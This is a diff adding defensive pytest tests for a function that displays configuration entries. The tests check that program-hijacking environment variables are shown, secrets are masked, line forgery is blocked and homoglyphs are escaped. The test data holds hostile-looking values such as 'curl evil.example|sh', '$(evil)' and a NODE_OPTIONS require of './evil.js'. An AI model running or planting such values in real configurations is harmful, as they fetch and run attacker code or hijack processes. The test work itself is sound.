@@ -176,3 +176,79 @@ class TestDescription:
     )
     def test_all_that_matters_is_in_it(self, entry: dict[str, Any], description: str) -> None:
         assert describe(entry) == description
+
+    @pytest.mark.parametrize(
+        ("name", "value"),
+        [
+            ("GIT_ASKPASS", "./evil.sh"),
+            ("GIT_ASKPASS", "evil"),
+            ("SSH_ASKPASS", "evil"),
+            ("LD_PRELOAD_KEY", "evil.so"),
+            ("PYTHON_KEYRING_BACKEND", "evil.module"),
+            ("PASSWORD_COMMAND", "evil"),
+            ("AWS_CREDENTIAL_PROCESS", "evil"),
+            ("NODE_OPTIONS", "--require ./evil.js"),
+            ("PYTHONPATH", "evil"),
+            ("BASH_ENV", "evil"),
+            ("API_TOKEN", "./evil.sh"),
+            ("API_TOKEN", "/tmp/evil"),
+            ("API_TOKEN", "curl evil.example|sh"),
+            ("API_TOKEN", "$(evil)"),
+        ],
+    )
+    def test_what_decides_which_program_is_run_is_shown(self, name: str, value: str) -> None:
+        assert describe({"command": "x", "env": {name: value}}, "key") == f"runs: x\nenv: {name}={value}"
+
+    @pytest.mark.parametrize(
+        ("entry", "secret"),
+        [
+            ({"env": {"API_TOKEN": "hunter22"}}, "hunter22"),
+            ({"env": {"WEBHOOK_SECRET": "hunter22"}}, "hunter22"),
+            ({"env": {"WHATEVER": "ghp_0123456789abcdefghij"}}, "ghp_0123456789abcdefghij"),
+            ({"env": {"DATABASE_URL": "postgres://me:hunter22@db/x"}}, "hunter22"),
+            ({"env": {"AUTH_HEADER": "Bearer hunter22hunter22"}}, "hunter22"),
+            ({"headers": {"Authorization": "Bearer hunter22"}}, "hunter22"),
+            ({"url": "https://me:hunter22@example.com/mcp?x=1"}, "hunter22"),
+            ({"url": "https://example.com/mcp?x=1&api_key=hunter22"}, "hunter22"),
+            ({"auth": {"type": "oauth", "clientSecret": "hunter22"}}, "hunter22"),
+            ({"auth": [{"clientSecret": "hunter22"}]}, "hunter22"),
+        ],
+        ids=str,
+    )
+    def test_secrets_are_masked_and_a_change_of_one_is_seen(self, entry: dict[str, Any], secret: str) -> None:
+        shown = describe(entry, "key")
+        assert secret not in shown
+        other = json.loads(json.dumps(entry).replace(secret, f"{secret[:-1]}z"))
+        assert describe(other, "key") != shown == describe(entry, "key")
+        assert describe(entry, "another key") != shown, "nobody can try passwords without the key"
+        assert describe(other) == describe(entry)
+
+    @pytest.mark.parametrize("end", ["\n", "\r", "\x0b", "\x85", "\u2028", "\u2029"], ids=ascii)
+    @pytest.mark.parametrize(
+        "entry",
+        [
+            {"command": "x{}"},
+            {"command": "x", "args": ["{}"]},
+            {"command": "x", "cwd": "y{}"},
+            {"command": "x", "env": {"A": "y{}"}},
+            {"command": "x", "env": {"A{}": "y"}},
+            {"url": "https://x{}", "headers": {"A{}": "y{}"}},
+            {"command": "x", "other{}": "y"},
+            {"command": "x", "other": {"y{}": "z{}"}},
+            {"args": ["{}"]},
+        ],
+        ids=str,
+    )
+    def test_no_value_begins_a_line(self, entry: dict[str, Any], end: str) -> None:
+        forged = json.loads(json.dumps(entry).replace("{}", json.dumps(f"{end}env: SAFE=1")[1:-1]))
+        shown, plain = describe(forged), describe(entry)
+        assert len(shown.splitlines()) == len(plain.splitlines())
+        assert not any(line.startswith("env: SAFE") for line in shown.splitlines())
+
+    def test_letters_of_other_scripts_are_not_taken_for_latin_ones(self) -> None:
+        assert describe({"command": "/opt/p\u0430ypal/run"}) == "runs: /opt/p\\u{0430}ypal/run"
+
+    def test_nothing_is_left_out(self) -> None:
+        assert describe({"url": "https://x", "args": ["y"], "env": ["A=1"]}) == (
+            'connects to: https://x\nargs: ["y"]\nenv: ["A=1"]'
+        )
